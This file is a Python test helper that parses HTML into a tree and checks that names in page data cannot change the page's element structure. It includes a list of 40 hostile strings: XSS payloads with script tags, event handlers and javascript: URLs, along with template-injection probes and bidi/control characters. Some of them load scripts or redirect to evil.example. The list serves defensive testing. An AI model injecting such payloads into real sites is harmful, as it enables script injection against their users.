"""A page as the elements a parser finds in it, and names that try to be more than names."""

from __future__ import annotations

import os
import shutil
from dataclasses import dataclass, field
from html.parser import HTMLParser

VOID = {"br", "col", "hr", "img", "input", "link", "meta"}

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<!--<script>",
    "-->",
    "<!-- -->",
    "<![CDATA[<b>]]>",
    "</script><script>alert(2)</script>",
    "</style><style>*{display:none}</style>",
    "</title><h1>title</h1>",
    "</table></div></main>",
    "</svg><svg onload=alert(3)>",
    '"><img src=x onerror=alert(4)>',
    "'><img src=x onerror=alert(5)>",
    '" onmouseover="alert(6)',
    "' onfocus='alert(7)' autofocus='",
    "` onclick=alert(8) `",
    "javascript:alert(9)",
    "data:text/html,<script>alert(10)</script>",
    "<iframe src=javascript:alert(11)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=a>",
    "<a href=javascript:alert(12)>click</a>",
    "<details open ontoggle=alert(13)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(14)>",
    "<template><script>alert(15)</script></template>",
    "<plaintext>",
    "<xmp>",
    "<noscript><p title='</noscript><img src=x onerror=alert(16)>'>",
    "&lt;script&gt;alert(17)&lt;/script&gt;",
    "&#60;script&#62;alert(18)&#60;/script&#62;",
    "&amp;&quot;&apos;",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "\u202egnp.exe\u202c \u2066isolate\u2069",
    "line\u2028separator\u2029paragraph\nnew\rline\ttab",
    "null\x00 bell\x07 escape\x1b[31m delete\x7f c1\x85",
    "\ud800 half a pair \udcff",
    "日本語 العربية ‮ é",
    "A" * 1_000_000 + "<script>alert(19)</script>",
]
assert len(HOSTILE) == 40


@dataclass
class Tag:
    """An element of the page."""

    name: str
    attributes: dict[str, str]
    text: str = ""
    children: list[Tag] = field(default_factory=list)

    def find(self, name: str, **attributes: str) -> list[Tag]:
        """All elements below with this name and these attributes, in the order of the page."""
        wanted = {key.rstrip("_").replace("_", "-"): value for key, value in attributes.items()}
        found = []
        for child in self.children:
            if child.name == name and wanted.items() <= child.attributes.items():
                found.append(child)
            found += child.find(name, **attributes)
        return found

    def all(self) -> list[Tag]:
        """Every element below."""
        return [tag for child in self.children for tag in (child, *child.all())]

    def words(self) -> str:
        """All text in it."""
        return self.text + "".join(child.words() for child in self.children)


class _Builder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.root = Tag("root", {})
        self._open = [self.root]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert len({name for name, _ in attrs}) == len(attrs), f"<{tag}> has an attribute twice"
        element = Tag(tag, {name: value or "" for name, value in attrs})
        self._open[-1].children.append(element)
        if tag not in VOID:
            self._open.append(element)

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop().name == tag, f"</{tag}> closes something else"

    def handle_data(self, data: str) -> None:
        self._open[-1].text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data[:80]}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction: {data[:80]}")


def parse(page: str) -> Tag:
    """The tree of a page; tags that do not match, comments and the like are refused."""
    builder = _Builder()
    builder.feed(page)
    builder.close()
    assert builder._open == [builder.root], "something was not closed"
    return builder.root


def skeleton(root: Tag) -> list[tuple[str, tuple[str, ...]]]:
    """Names of all elements and of their attributes: what no name in the data may change."""
    return [(tag.name, tuple(tag.attributes)) for tag in root.all()]


def chromium() -> str | None:
    """A browser on this machine."""
    names = (os.environ.get("CHROMIUM", ""), "chromium", "chromium-browser", "google-chrome")
    return next((path for name in names if name and (path := shutil.which(name))), None)
